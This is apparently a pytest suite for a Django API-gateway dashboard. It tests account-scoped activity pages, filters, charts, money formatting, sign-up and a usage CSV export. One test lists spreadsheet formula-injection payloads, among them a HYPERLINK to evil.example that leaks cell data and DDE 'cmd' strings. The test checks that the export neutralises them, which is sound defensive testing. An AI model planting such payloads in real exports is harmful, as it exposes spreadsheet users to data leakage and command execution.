"""The signed-in home page, the Activity page and the usage page's charts, served by Django's test
client against the database: each reads only the signed-in account's records."""

from __future__ import annotations

import uuid
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client
from django.utils.timezone import now

from accounts.models import ApiKey, User
from accounts.services import account_for
from accounts.templatetags.display import usd_fixed
from billing.models import Plan
from gateway import usage
from gateway.models import UsageRecord
from gateway.pages.usage import TOP_MODELS, chart_data
from tests import factories

pytestmark = pytest.mark.django_db


def _record(account: Any, key: Any = None, **fields: Any) -> UsageRecord:
    values: dict[str, Any] = {
        "request_id": "req_" + uuid.uuid4().hex,
        "account": account,
        "api_key": key,
        "surface": "openai",
        "model": "sim-gpt",
        "status": 200,
        "input_tokens": 100,
        "output_tokens": 20,
        "cost_micros": 1_500,
        "latency_ms": 420,
        "ttft_ms": 90,
        "created_at": now(),
    }
    values.update(fields)
    return UsageRecord.objects.create(**values)


@pytest.fixture
def signed_in(client: Client, alice: User) -> Client:
    client.force_login(alice)
    return client


def test_the_home_page_shows_spend_requests_errors_and_the_last_requests(
    signed_in: Client, alice: User
) -> None:
    acct = account_for(alice)
    for n in range(3):
        _record(acct, created_at=now() - timedelta(minutes=n))
    failed = _record(acct, status=429, error_code="rate_limit_exceeded", cost_micros=0)
    page = signed_in.get("/dashboard/")
    html = page.content.decode()
    assert page.status_code == 200
    totals = page.context["totals"]
    assert (totals.requests, totals.errors, totals.cost_micros) == (4, 1, 4_500)
    assert 'data-testid="spend">$0.0045' not in html  # totals have two places
    assert 'data-testid="spend"><$0.01' in html or "&lt;$0.01" in html
    assert failed.request_id in html
    assert page.context["spark"].counts[-1] == 4
    assert "per key" in html and "across all your keys" not in html


def test_the_home_page_of_a_new_account_says_there_are_no_requests(signed_in: Client) -> None:
    html = signed_in.get("/dashboard/").content.decode()
    assert 'data-testid="no-requests"' in html
    assert 'data-testid="errors">0<' in html


def test_activity_lists_only_the_signed_in_accounts_requests(
    signed_in: Client, alice: User, charlie: User
) -> None:
    mine = _record(account_for(alice))
    theirs = _record(account_for(charlie))
    page = signed_in.get("/activity/")
    assert page.status_code == 200
    html = page.content.decode()
    assert mine.request_id in html
    assert theirs.request_id not in html
    # Nor by id: another account's request is a 404 like an unknown one.
    assert signed_in.get(f"/activity/{theirs.request_id}/").status_code == 404
    detail = signed_in.get(f"/activity/{mine.request_id}/")
    assert detail.status_code == 200
    assert detail.context["record"] == mine
    # The search box goes to the detail page.
    found = signed_in.get("/activity/", {"request_id": f" {mine.request_id} "})
    assert found.status_code == 302
    assert found["Location"] == f"/activity/{mine.request_id}/"


def test_activity_filters_by_key_model_status_and_surface(signed_in: Client, alice: User) -> None:
    acct = account_for(alice)
    key, _ = factories.api_key(acct, name="backend")
    a = _record(acct, key, model="sim-gpt", status=200, surface="openai")
    b = _record(acct, None, model="sim-claude", status=502, surface="anthropic")
    c = _record(acct, key, model="sim-claude", status=429, surface="openai")

    def ids(**params: Any) -> set[str]:
        page = signed_in.get("/activity/", params)
        assert page.status_code == 200, params
        return {r.request_id for r in page.context["found"].records}

    assert ids() == {a.request_id, b.request_id, c.request_id}
    assert ids(key=key.pk) == {a.request_id, c.request_id}
    assert ids(model="sim-claude") == {b.request_id, c.request_id}
    assert ids(status="error") == {b.request_id, c.request_id}
    assert ids(status="ok") == {a.request_id}
    assert ids(status="429") == {c.request_id}
    assert ids(surface="anthropic") == {b.request_id}


def test_activity_pages_through_older_requests(signed_in: Client, alice: User) -> None:
    acct = account_for(alice)
    at = now()
    made = [_record(acct, created_at=at - timedelta(seconds=n)) for n in range(60)]
    first = signed_in.get("/activity/").context["found"]
    assert [r.request_id for r in first.records] == [r.request_id for r in made[:50]]
    older = signed_in.get("/activity/", {"before": first.next_before}).context["found"]
    assert [r.request_id for r in older.records] == [r.request_id for r in made[50:]]
    assert older.next_before is None


def test_bad_query_parameters_answer_400_and_say_which(signed_in: Client, alice: User) -> None:
    page = signed_in.get("/usage/", {"period": "decade"})
    assert page.status_code == 400
    assert "period must be day, week or month" in page.content.decode()
    assert signed_in.get("/usage/export.csv", {"period": "decade"}).status_code == 400
    page = signed_in.get("/activity/", {"status": "sometimes"})
    assert page.status_code == 400
    assert "status must be" in page.content.decode()
    other = factories.api_key(factories.account(), name="not mine")[0]
    assert signed_in.get("/activity/", {"key": other.pk}).status_code == 400


def test_the_tokens_chart_names_the_top_models_and_sums_the_rest(alice: User) -> None:
    acct = account_for(alice)
    at = now()
    for n in range(20):
        _record(acct, model=f"model-{n:02d}", input_tokens=1_000 * (n + 1), output_tokens=0)
    rng = usage.period_range("day", at=at)
    rep = usage.report(
        account_id=acct.pk,
        start=rng.start,
        end=rng.end,
        group_by=["model", "surface"],
        hourly=True,
    )
    data = chart_data(rep, hourly=True, at=at)
    series = data["tokens_by_model"]
    assert len(series) == TOP_MODELS + 1
    named = {s["model"] for s in series[:-1]}
    assert named == {f"model-{n:02d}" for n in range(20 - TOP_MODELS, 20)}
    assert series[-1]["model"] == f"Other ({20 - TOP_MODELS} models)"
    assert sum(series[-1]["tokens"]) == sum(1_000 * (n + 1) for n in range(20 - TOP_MODELS))
    # Hourly: one slot per hour of today so far, the records in the current one.
    assert len(data["slots"]) == at.hour + 1
    assert sum(sum(s["tokens"]) for s in series) == sum(1_000 * (n + 1) for n in range(20))


def test_money_has_one_format_per_kind() -> None:
    assert [usd_fixed(m, 2) for m in (0, 1, 4_999, 5_000, 1_234_567)] == [
        "$0.00",
        "<$0.01",
        "<$0.01",
        "$0.01",
        "$1.23",
    ]
    assert [usd_fixed(m, 4) for m in (40, 50, 1_500, 40_000)] == [
        "<$0.0001",
        "$0.0001",
        "$0.0015",
        "$0.0400",
    ]


def test_plans_are_public_and_a_switch_with_billing_off_says_nothing_is_charged(
    client: Client, alice: User
) -> None:
    factories.plan()
    page = client.get("/plans/")
    assert page.status_code == 200
    assert "per key" in page.content.decode()
    assert client.post("/plans/", {"plan": "pro"}).status_code == 302
    client.force_login(alice)
    switched = client.post("/plans/", {"plan": "pro"}, follow=True).content.decode()
    assert "no payment is taken" in switched


def test_sign_up_reports_every_error_at_once(client: Client) -> None:
    factories.plan()
    page = client.post("/signup/", {"email": "not-an-email", "password1": "123", "password2": "4"})
    html = page.content.decode()
    assert page.status_code == 200
    errors = page.context["form"].errors
    # The password rules ran although the e-mail was invalid (they used to wait for it).
    assert set(errors) == {"email", "password1"}
    assert "data-error-summary" in html
    assert 'href="#id_password1"' in html


def test_log_out_says_so(signed_in: Client) -> None:
    page = signed_in.post("/logout/", follow=True)
    assert "You are logged out." in page.content.decode()


def test_unknown_pages_get_the_branded_404(client: Client, db: Any) -> None:
    page = client.get("/no-such-page/")
    assert page.status_code == 404
    assert b'data-testid="error-page"' in page.content


def test_the_usage_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    signed_in: Client, alice: User
) -> None:
    import csv
    import io

    acct = account_for(alice)
    # Six named keys: more than the Test plan's active-key cap allows.
    Plan.objects.filter(pk=acct.plan_id).update(max_keys=None)
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ]
    for n, text in enumerate(hostile):
        key, _ = factories.api_key(acct, name=text)
        _record(acct, key, model=text, request_id=f"req_{n:024x}")
    _record(acct, model="sim-gpt-4.1")
    export = signed_in.get("/usage/export.csv", {"period": "day"})
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    models = {r["model"] for r in rows}
    names = {r["key_name"] for r in rows}
    for text in hostile:
        assert "'" + text in models, (text, models)
    # Names are stored stripped.
    stored = set(ApiKey.objects.filter(account=acct).values_list("name", flat=True))
    assert len(stored) == 5  # the two whitespace-led names are stored as one
    for name in stored:
        assert "'" + name in names, (name, names)
    # Nothing else changes: plain names, numbers and dates are written as they are.
    assert "sim-gpt-4.1" in models
    assert all(int(r["requests"]) >= 1 for r in rows)


def test_activity_shows_the_served_model_and_the_name_asked_for(
    signed_in: Client, alice: User
) -> None:
    aliased = _record(
        account_for(alice), model="claude-haiku-4-5", requested_model="claude-opus-4-8[1m]"
    )
    plain = _record(account_for(alice), model="sim-gpt")
    html = signed_in.get("/activity/").content.decode()
    assert html.count('data-testid="requested-model"') == 1
    assert "as claude-opus-4-8[1m]" in html
    detail = signed_in.get(f"/activity/{aliased.request_id}/").content.decode()
    assert "claude-haiku-4-5" in detail
    assert "<dt>Asked for</dt>" in detail and "claude-opus-4-8[1m]" in detail
    other = signed_in.get(f"/activity/{plain.request_id}/").content.decode()
    assert "Asked for" not in other
